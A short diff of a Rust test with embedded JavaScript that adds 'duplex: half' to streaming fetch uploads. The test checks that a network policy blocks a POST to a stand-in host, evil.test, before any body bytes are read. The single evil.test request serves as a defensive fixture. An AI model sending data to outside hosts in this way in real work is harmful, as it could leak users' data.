@@ -659,13 +659,13 @@ fn request_bodies_stream_and_a_blocked_one_is_never_read() {
             // Streamed out in chunks, one of them larger than a single IPC chunk.
             const sizes = [10, 300000, 5];
             const body = new ReadableStream({ pull(c) { const n = sizes.shift(); if (n === undefined) c.close(); else c.enqueue(new Uint8Array(n)); } });
-            const sent = await (await fetch(i.u, { method: 'POST', body })).text();
+            const sent = await (await fetch(i.u, { method: 'POST', body, duplex: 'half' })).text();
             // Blocked: the policy check happens before any byte of the endless body is read.
             let pulls = 0;
             const endless = new ReadableStream({ pull(c) { pulls++; c.enqueue(new Uint8Array(1024)); } }, { highWaterMark: 0 });
             const t0 = Date.now();
             let blocked;
-            try { await fetch('https://evil.test/x', { method: 'POST', body: endless }); } catch (e) { blocked = e instanceof TypeError; }
+            try { await fetch('https://evil.test/x', { method: 'POST', body: endless, duplex: 'half' }); } catch (e) { blocked = e instanceof TypeError; }
             return { sent, blocked, pulls, ms: Date.now() - t0 };
         }"#,
         json!({ "u": server.url("api.test", "/upload") }),
